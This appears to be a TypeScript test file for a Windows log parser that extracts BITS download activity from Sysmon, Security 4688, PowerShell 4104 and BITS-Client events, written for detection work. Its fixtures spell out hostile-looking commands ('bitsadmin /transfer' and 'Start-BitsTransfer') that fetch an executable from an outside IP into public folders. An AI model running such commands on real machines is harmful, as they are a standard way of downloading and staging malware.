/** Events that nobody has taken apart. */
import fc from 'fast-check';
import { factsOfRaw } from '../../src/windows/index.js';
import { processFacts, rowFacts } from './rows.js';

const LINE = 'bitsadmin /transfer "a&b" http://203.0.113.7/a?b<c C:\\Users\\Public\\a.exe';
const xml = (data: string, system = '<EventID>1</EventID>') => `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{1}"/>${system}<Computer>ws07.corp.example</Computer></System><EventData>${data}</EventData></Event>`;
const escaped = LINE.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&#34;');

test.each([
  ['XML', xml(`<Data Name='Image'>C:\\Windows\\System32\\bitsadmin.exe</Data><Data Name='CommandLine'>${escaped}</Data>`)],
  ['XML with hexadecimal references', xml(`<Data Name="CommandLine">${escaped.replaceAll('&#34;', '&#X22;')}</Data>`)],
  ['JSON, flat', JSON.stringify({ EventID: 1, CommandLine: LINE })],
  ['JSON, as Winlogbeat nests it', JSON.stringify({ winlog: { event_id: 1, event_data: { CommandLine: LINE } } })],
  ['the text of Windows', `11/01/2026 10:00:01 AM\nLogName=Security\nEventCode=4688\nComputerName=ws07.corp.example\nMessage=A new process has been created.\n\nProcess Information:\n\tNew Process Name:\tC:\\Windows\\System32\\bitsadmin.exe\r\n\tProcess Command Line:\t${LINE}\r\n`],
  ['the text of Sysmon', `EventCode=1\nMessage=Process Create:\nImage: C:\\Windows\\System32\\bitsadmin.exe\nCommandLine: ${LINE}\n`],
  ['a bare command line', LINE],
])('%s', (_, raw) => {
  const { transfers, jobs, verbs, tools } = processFacts(LINE) ?? {};
  expect(factsOfRaw(raw)).toMatchObject({ transfers, jobs, verbs, tools });
});

test('logs beside command lines', () => {
  const script = 'Start-BitsTransfer -Source http://203.0.113.7/a.exe `\n -Destination C:\\d\\a.exe';
  expect(factsOfRaw(xml(`<Data Name='ScriptBlockText'>${script}</Data>`, '<EventID>4104</EventID><Channel>Microsoft-Windows-PowerShell/Operational</Channel>'))?.transfers).toEqual(rowFacts({ ScriptBlockText: script })?.transfers);
  expect(factsOfRaw(`EventCode=4104\nMessage=Creating Scriptblock text (1 of 1):\n${script}\n\nScriptBlock ID: 6f364a04\nPath: `)).toMatchObject({ evidence: 'script', transfers: [{ destination: { text: 'C:\\d\\a.exe' } }] });
  const job = xml("<Data Name='name'>n</Data><Data Name='Id'>{6F364A04-6299-4349-A8B6-34BED5E400EF}</Data><Data Name='url'>http://203.0.113.7/a</Data>", "<EventID Qualifiers='0'>59</EventID><Channel>Microsoft-Windows-Bits-Client/Operational</Channel>");
  expect(factsOfRaw(job)).toMatchObject({ evidence: 'bitsclient', code: 59, jobs: [{ name: 'n' }], transfers: [{ source: { host: '203.0.113.7' } }] });
});

test.each(['', '<Event>', '{"EventID": 1, "CommandLine": "bitsadmin', 'notepad a.txt', xml("<Data Name='CommandLine'>notepad</Data>"), '{"__proto__": {"CommandLine": "notepad"}}', 'Message=', '&#99999999;'])('%j says nothing', (raw) => {
  expect(factsOfRaw(raw)).toBeUndefined();
});

test('any text, and long ones in linear time', () => {
  const piece = fc.constantFrom('<Event>', "<Data Name='CommandLine'>", '</Data>', '&#x110000;', '&amp;', '{"a":', '}', '=', ': ', '\n', 'bitsadmin /transfer ', 'Message', 'EventCode', ' ', '<Provider ');
  fc.assert(fc.property(fc.array(fc.oneof(piece, fc.string())), (parts) => { factsOfRaw(parts.join('')); }), { numRuns: 500 });
  for (const text of ['<', "<Data Name='", '<a ', 'a ', 'a:', '&#', '<Provider ', '{"a":', ' \n', '<a>&']) factsOfRaw(`${text === '<' ? '' : '<'}${text.repeat(400_000)}`);
  for (const text of ['a ', ' ', 'Message=\n', 'a: ', '{', '\t']) factsOfRaw(text.repeat(400_000));
});
